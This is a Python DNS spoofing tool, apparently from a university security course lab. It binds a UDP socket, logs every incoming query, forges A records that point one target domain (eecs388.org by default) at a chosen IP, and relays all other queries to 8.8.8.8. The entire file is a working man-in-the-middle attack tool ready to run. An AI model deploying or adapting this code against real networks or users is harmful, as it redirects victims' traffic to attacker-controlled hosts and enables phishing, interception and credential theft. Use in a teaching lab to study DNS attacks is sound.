#!/usr/bin/env python3
"""
dnsspoof.py – listen on UDP, log every query and answer questions about one
domain with a forged A record. Everything else is forwarded to a real
resolver and relayed back untouched.
Usage:  sudo python3 dnsspoof.py  [bind-ip]  [fake-ip]  [domain]
"""

import ipaddress
import logging
import os
import socket
import sys

import dns.exception
import dns.message
import dns.query

from dnswire import (CLASS_IN, DEFAULT_TTL, TYPE_A, Answer, DNSFormatError,
                     Packet, Question, build_reply, parse_packet)

DEF_ADDR     = os.environ.get("MITM_BIND", "0.0.0.0")
DEF_ANSWER   = os.environ.get("MITM_FAKE_IP", "1.2.3.4")
DEF_DOMAIN   = os.environ.get("MITM_DOMAIN", "eecs388.org")
DNS_PORT     = int(os.environ.get("MITM_DNS_PORT", "53001"))
UPSTREAM_DNS = os.environ.get("MITM_UPSTREAM_DNS", "8.8.8.8")
UPSTREAM_TIMEOUT = 2.0
BUF_SIZE     = 4096

logger = logging.getLogger(__name__)


class InvalidAnswerAddress(ValueError):
    """The address given for a forged A record is not usable IPv4."""


def _as_bytes(domain) -> bytes | None:
    # wire names are ASCII; a str that is not can never match
    if isinstance(domain, (bytes, bytearray)):
        return bytes(domain)
    if not isinstance(domain, str):
        raise TypeError(f"domain must be str or bytes, not {type(domain).__name__}")
    try:
        return domain.encode("ascii")
    except UnicodeEncodeError:
        return None


def has_question_for_domain(packet: Packet, domain) -> bool:
    """True iff some question in `packet` names exactly `domain`.

    Comparison is byte equality: no case folding, no prefix or suffix
    matching ("eecs388.orgcom" is not "eecs388.org").
    """
    wanted = _as_bytes(domain)
    return wanted is not None and any(q.name == wanted for q in packet.questions)


def _ipv4(ip) -> ipaddress.IPv4Address:
    try:
        if isinstance(ip, (ipaddress.IPv4Address, ipaddress.IPv6Address)):
            addr = ip
        else:
            addr = ipaddress.ip_address(ip)
    except ValueError as e:
        raise InvalidAnswerAddress(f"bad answer address {ip!r}") from e
    if addr.version == 6:
        if addr.ipv4_mapped is None:
            raise InvalidAnswerAddress(f"A record needs IPv4, got {addr}")
        addr = addr.ipv4_mapped
    return addr


def answer_for_question(question: Question, ip) -> Answer:
    """Forge an A/IN answer for `question` pointing at `ip`.

    The name is the question's own bytes so the resolver treats the answer
    as relevant.
    """
    if not isinstance(question.name, bytes):
        raise DNSFormatError(f"question name must be bytes, got {question.name!r}")
    return Answer(name=question.name, type_=TYPE_A, class_=CLASS_IN,
                  ttl=DEFAULT_TTL, ip=_ipv4(ip))


def spoof_reply(data: bytes, domain, ip) -> bytes | None:
    """Reply bytes for a query about `domain`, or None if it is not ours."""
    packet = parse_packet(data)
    if not has_question_for_domain(packet, domain):
        return None
    wanted = _as_bytes(domain)
    answers = [answer_for_question(q, ip) for q in packet.questions
               if q.name == wanted and q.type_ == TYPE_A and q.class_ == CLASS_IN]
    return build_reply(packet, answers)


def forward_query(data: bytes, upstream: str = UPSTREAM_DNS,
                  timeout: float = UPSTREAM_TIMEOUT) -> bytes:
    query = dns.message.from_wire(data)
    response = dns.query.udp(query, upstream, timeout=timeout)
    return response.to_wire()


def describe(packet: Packet) -> str:
    return ", ".join(f"{q.name.decode('ascii', errors='replace')}  IN  {q.type_}"
                     for q in packet.questions) or "<no questions>"


def handle(data: bytes, domain, answer_ip, upstream: str = UPSTREAM_DNS) -> bytes:
    reply = spoof_reply(data, domain, answer_ip)
    if reply is not None:
        logger.info("spoofed  -> %s", answer_ip)
        return reply
    logger.info("forward  -> %s", upstream)
    return forward_query(data, upstream)


def main(argv=None):
    argv = sys.argv[1:] if argv is None else argv
    bind_addr = argv[0] if len(argv) > 0 else DEF_ADDR
    answer_ip = argv[1] if len(argv) > 1 else DEF_ANSWER
    domain    = argv[2] if len(argv) > 2 else DEF_DOMAIN
    _ipv4(answer_ip)                            # fail fast on a bad fake IP

    logging.basicConfig(level=logging.INFO, format="%(asctime)s  %(message)s",
                        datefmt="%H:%M:%S")

    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((bind_addr, DNS_PORT))
    logger.info("[*] Listening on %s:%d, answering %s with %s",
                bind_addr, DNS_PORT, domain, answer_ip)
    try:
        while True:
            data, addr = sock.recvfrom(BUF_SIZE)
            try:
                logger.info("%s:%d  %s  (%d bytes)", addr[0], addr[1],
                            describe(parse_packet(data)), len(data))
                reply = handle(data, domain, answer_ip)
            except DNSFormatError as e:
                logger.warning("malformed packet from %s: %s", addr[0], e)
                continue
            except (dns.exception.DNSException, OSError) as e:
                logger.warning("upstream failed for %s: %s", addr[0], e)
                continue
            sock.sendto(reply, addr)
    except KeyboardInterrupt:
        logger.info("[!] shutting down")
    finally:
        sock.close()


if __name__ == "__main__":
    main()
